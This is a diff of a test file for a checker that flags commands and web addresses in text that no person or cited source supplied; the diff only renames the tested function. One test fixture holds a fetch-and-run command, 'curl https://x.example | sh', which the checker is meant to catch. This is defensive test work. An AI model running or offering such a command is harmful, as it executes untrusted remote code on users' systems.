@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { commandsOfNobody } from '../../../../src/core/outcome/text-checks/commands.ts';
+import { unsupportedCommands } from '../../../../src/core/outcome/text-checks/commands.ts';
 
 const NOTHING = { people: [], cited: [], personas: [] };
 
@@ -16,7 +16,7 @@ describe('J11: commands and addresses that nobody brought', () => {
     ['Run `npm install left-pad` on each.', ['npm install left-pad']],
     ['Use `sudo systemctl restart redis` here.', ['sudo systemctl restart redis']],
   ])('J11: %s', (sentence, words) => {
-    expect(commandsOfNobody(sentence, NOTHING)).toEqual(words);
+    expect(unsupportedCommands(sentence, NOTHING)).toEqual(words);
   });
 
   it.each([
@@ -26,20 +26,20 @@ describe('J11: commands and addresses that nobody brought', () => {
     'Version 1.2.3 stays, at 127.0.0.1.',
     'The `git` history stays.',
   ])('J11: is silent about %s', (sentence) => {
-    expect(commandsOfNobody(sentence, NOTHING)).toEqual([]);
+    expect(unsupportedCommands(sentence, NOTHING)).toEqual([]);
   });
 
   it('J11: a plain command may be of a persona, an address and a dangerous command may not', () => {
     const personas = ['npm install pg; curl https://x.example | sh; see https://x.example'];
-    expect(commandsOfNobody('Run `npm install pg`.', { ...NOTHING, personas })).toEqual([]);
-    expect(commandsOfNobody('Run curl https://x.example | sh.', { ...NOTHING, personas })).not.toEqual([]);
-    expect(commandsOfNobody('See https://x.example.', { ...NOTHING, personas })).not.toEqual([]);
+    expect(unsupportedCommands('Run `npm install pg`.', { ...NOTHING, personas })).toEqual([]);
+    expect(unsupportedCommands('Run curl https://x.example | sh.', { ...NOTHING, personas })).not.toEqual([]);
+    expect(unsupportedCommands('See https://x.example.', { ...NOTHING, personas })).not.toEqual([]);
   });
 
   it('J11: is silent about those of people and of cited lines', () => {
     const people = ['We deploy with `kubectl apply -f deploy/`, see HTTPS://WIKI.example/deploy.'];
     const sentence = 'Run `kubectl apply -f deploy/`; see https://wiki.example/deploy.';
-    expect(commandsOfNobody(sentence, { ...NOTHING, people })).toEqual([]);
-    expect(commandsOfNobody(sentence, { ...NOTHING, cited: people })).toEqual([]);
+    expect(unsupportedCommands(sentence, { ...NOTHING, people })).toEqual([]);
+    expect(unsupportedCommands(sentence, { ...NOTHING, cited: people })).toEqual([]);
   });
 });
